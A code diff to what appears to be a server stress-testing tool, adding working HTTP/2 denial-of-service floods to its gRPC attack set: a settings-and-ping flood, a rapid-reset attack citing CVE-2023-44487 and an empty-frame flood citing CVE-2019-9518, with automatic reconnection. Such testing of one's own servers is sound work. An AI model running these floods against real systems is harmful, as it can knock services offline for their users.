@@ -21,7 +21,7 @@ _MAX_BYTES = 4 << 20
 _PIECE = b"a" * (16 << 10)
 _BODY_BYTES = (256 << 10) - 1
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_DATA, _HEADERS, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 4, 6, 8
+_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
 _END_HEADERS, _ACK = 4, 1
 _STREAMS = 100
 _ZMQ_GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x01"
@@ -210,6 +210,36 @@ async def grpc_messages(connection: Connection, order: Order) -> None:
         reading.cancel()
 
 
+async def grpc_settings(connection: Connection, order: Order) -> None:
+    """Sends settings and pings that the server has to acknowledge, and reads no acknowledgement."""
+    table = struct.pack(">HI", 1, 4096) + struct.pack(">HI", 1, 0)
+    flood = _frame(_SETTINGS, 0, 0, table) + _frame(_PING, 0, 0, bytes(8))
+    await connection.send(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
+    await connection.send_pieces(_repeat(flood * 300))
+
+
+async def grpc_resets(connection: Connection, order: Order) -> None:
+    """Opens calls and resets each of them at once (rapid reset, CVE-2023-44487)."""
+    await connection.send(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
+    stream = 1
+    while connection.num_bytes < _MAX_BYTES:
+        calls = b""
+        for _ in range(50):
+            calls += _frame(_HEADERS, _END_HEADERS, stream, _call(order))
+            calls += _frame(_RST_STREAM, 0, stream, struct.pack(">I", 8))
+            stream += 2
+        await connection.send(calls)
+
+
+async def grpc_empty_frames(connection: Connection, order: Order) -> None:
+    """Sends empty data and window updates of one byte without end (CVE-2019-9518)."""
+    await connection.send(
+        _PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_HEADERS, _END_HEADERS, 1, _call(order))
+    )
+    flood = _frame(_DATA, 0, 1, b"") + _frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
+    await connection.send_pieces(_repeat(flood * 300))
+
+
 class _Windows:
     """The server's flow-control windows of a connection (RFC 9113, 5.2)."""
 
@@ -255,7 +285,7 @@ class _Windows:
                     await connection.send(_frame(_SETTINGS, _ACK, 0, b""))
                 elif kind == _PING and not flags & _ACK:
                     await connection.send(_frame(_PING, _ACK, 0, payload))
-                elif kind == 3:  # the server ended the stream
+                elif kind == _RST_STREAM:
                     self._streams.pop(stream, None)
                 self._changed.set()
 
@@ -306,7 +336,12 @@ HTTP: tuple[Attack, ...] = (
     *(header_of_many_bytes, many_headers, long_line, headers_below_the_limit, slow_headers),
     *(requests_without_waiting, bodies, bodies_of_the_sign_in, slow_bodies, unread_answers, silent),
 )
-GRPC: tuple[Attack, ...] = (grpc_metadata, grpc_headers_without_end, grpc_messages, silent)
+FLOODS: tuple[Attack, ...] = (grpc_settings, grpc_resets, grpc_empty_frames)
+"""Attacks on the processor: they connect again as soon as the server ends a connection."""
+GRPC: tuple[Attack, ...] = (
+    *(grpc_metadata, grpc_headers_without_end, grpc_messages, silent),
+    *FLOODS,
+)
 ZMQ: tuple[Attack, ...] = (zmq_handshake_frames, zmq_messages_without_end, silent)
 ATTACKS = {attack.__name__: attack for attack in (*HTTP, *GRPC, *ZMQ)}
 
@@ -332,11 +367,14 @@ async def main() -> None:
 
     async def one(number: int) -> None:
         nonlocal num_open
-        with suppress(OSError, asyncio.IncompleteReadError):
-            async with _connected(order["port"], number) as connection:
-                connections.append(connection)
-                await attack(connection, order)
-                await connection.hold()
+        is_first = True
+        while is_first or attack in FLOODS:
+            is_first = False
+            with suppress(OSError, asyncio.IncompleteReadError):
+                async with _connected(order["port"], number) as connection:
+                    connections.append(connection)
+                    await attack(connection, order)
+                    await connection.hold()
 
     tasks = [asyncio.create_task(one(number)) for number in range(order["connections"])]  # noqa: TID251 -- awaited or cancelled below
     with suppress(TimeoutError):
